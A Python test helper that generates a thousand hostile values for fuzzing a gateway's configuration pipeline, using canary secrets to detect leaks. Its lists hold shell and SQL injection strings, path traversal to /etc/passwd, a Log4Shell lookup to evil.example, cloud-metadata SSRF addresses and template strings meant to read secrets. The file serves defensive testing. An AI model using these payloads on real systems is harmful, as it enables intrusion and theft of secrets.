"""A thousand values of bad will, made from a corpus: what tenants could write where a word is expected.

Every value is a payload in a setting. The payloads try to be expanded, run, read, or taken for syntax by
something between the API server and a visitor; the settings make them look like a host, an address or a path.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from itertools import product
from pathlib import Path


@dataclass(frozen=True)
class Canary:
    """Two secrets that Caddy could read, and must never tell."""

    variable: str
    file: Path
    secrets: tuple[str, str]

    def write(self) -> dict[str, str]:
        """Put the second secret into its file; return the environment with the first."""
        self.file.write_text(self.secrets[1] + "\n")
        return {self.variable: self.secrets[0]}


_SYNTAX = (
    "a\r\nX-Injected: 1",
    "a\nrespond /x 200",
    "a\r\n\r\nHTTP/1.1 200 OK\r\n\r\ninjected",
    "a\x00b",
    "\x00",
    "a\tb",
    "a\x0bb",
    "a\x7fb",
    "a\x1b[31mb",
    '"',
    "'",
    "`",
    '"; respond "x',
    "`\nimport /etc/passwd\n`",
    "} handle { respond",
    "{",
    "}",
    "{}",
    "<<EOF\nx\nEOF",
    "#",
    "a # b",
    "a\\",
    "\\",
    "a,b",
    "a;b",
    "|",
    "a|b",
    "*",
    "**",
    "?",
    "[a-z]",
    "[!a]",
    "!",
    "~",
    "@",
    "@env",
    "-",
    "--config=/etc/passwd",
    "import *",
    "%0d%0aX-Injected:%201",
    "%00",
    "%s%n%d",
    "&amp;",
    "<script>alert(1)</script>",
    "null",
    "true",
    "0x7f000001",
    "1e3",
    "- a: b",
    "&anchor *anchor",
    "!!python/object/apply:os.system ['id']",
)
_PATHS = (
    "..",
    "../..",
    "../../../../etc/passwd",
    "..\\..\\etc\\passwd",
    "/etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%c0%afetc",
    "....//....//etc/passwd",
    "file:///etc/passwd",
    "php://filter/read=convert.base64-encode/resource=/etc/passwd",
    "/proc/self/environ",
    "unix//run/gateway/admin.sock",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "javascript:alert(1)",
    "data:text/html,x",
)
_SHELL = (
    "$(id)",
    "`id`",
    ";id",
    "|id",
    "&&id",
    "a\nid",
    "$IFS",
    "${IFS}",
    "() { :; }; id",
    "' OR '1'='1",
    "'; DROP TABLE wp_users; --",
    '" OR 1=1 -- ',
    "\\' OR 1=1 -- ",
    "1 UNION SELECT 1",
    "%' ESCAPE '",
    "${jndi:ldap://evil.example/x}",
)
_ADDRESSES = (
    "127.0.0.1:2019",
    "127.1:2019",
    "0.0.0.0:2019",
    "[::1]:2019",
    "[::ffff:127.0.0.1]:2019",
    "169.254.169.254:80",
    "2130706433:2019",
    "localhost:2019",
    "10.0.0.1:65536",
    "10.0.0.1:-1",
    "10.0.0.1:80,10.0.0.2:80",
    "user:password@10.0.0.1:80",
    "10.0.0.1:80/x",
    "kubernetes.default.svc:443",
)
_UNICODE = (
    "\u202eexample",
    "ex\u200bample",
    "\ufeffexample",
    "e\u0301xample",
    "\uff0e\uff0e",
    "example\u3002com",
    "\u2024\u2024/",
    "\u212aelvin",
    "\u0131stanbul",
    "stra\u00dfe",
    "\U0001f4a9",
    "\u0430pple",
    "a\u2028b",
    "\u00ad",
    "xn--a",
    "xn--",
    "\u0301",
    "\uffff",
)
_OVERLONG = ("a" * 64, "a" * 254, "a" * 1024, "a." * 130, "../" * 90, "%" * 300)


def _of_canary(canary: Canary) -> list[str]:
    """Return the ways in which the programs on the way name a variable or a file."""
    name, file = canary.variable, canary.file
    return [
        f"{{env.{name}}}",
        f"{{${name}}}",
        f"{{${name}:x}}",
        f"${{{name}}}",
        f'{{{{env "{name}"}}}}',
        f'{{{{include "{file}"}}}}',
        f'{{{{readFile "{file}"}}}}',
        f'{{{{placeholder "env.{name}"}}}}',
        f"{{file.{file}}}",
        "{file./etc/passwd}",
        "{http.request.header.Authorization}",
        "{http.request.uri.query}",
        "{http.request.host}",
        "{http.vars.root}",
        "{http.regexp.record.1}",
        "{http.regexp.rec.3}",
        "{http.matchers.file.relative}",
        "{http.request.tls.client.subject}",
        "{http.error.message}",
        "{system.hostname}",
        "{system.wd}",
        "{time.now.unix}",
        "{upstream}",
        "{re.x.1}",
        f"{{{{env.{name}}}}}",
        f"{{env.{name}",
        f"\\{{env.{name}\\}}",
        f"%7Benv.{name}%7D",
        "{env.{http.request.header.X-Note}}",
        f"%{{{name}}}",
        f"%({name})s",
        f"$({name})",
        f"<%= ENV['{name}'] %>",
        f"#{{ENV['{name}']}}",
        f"{file}",
        f"{{env.{name}}}" * 20,
    ]


_SETTINGS = (
    "{}",
    "{}.example",
    "shop.{}.example",
    "shop.example{}",
    "*.{}.example",
    "https://{}",
    "https://www.example/{}",
    "https://www.example/?x={}",
    "https://{}@www.example",
    "/{}",
    "a{}b",
    "10.0.0.1:80{}",
    "max-age=300{}",
)


def hostile_values(canary: Canary, count: int = 1000) -> list[str]:
    """Return different values, the same ones each time: every payload as it is, then settings by chance."""
    payloads = [*_of_canary(canary), *_SYNTAX, *_PATHS, *_SHELL, *_ADDRESSES, *_UNICODE, *_OVERLONG]
    settled = [
        setting.replace("{}", payload) for payload, setting in product(payloads, _SETTINGS) if setting != "{}"
    ]
    random.Random(5).shuffle(settled)  # noqa: S311 (a choice, not a secret)
    return list(dict.fromkeys([*payloads, *settled]))[:count]
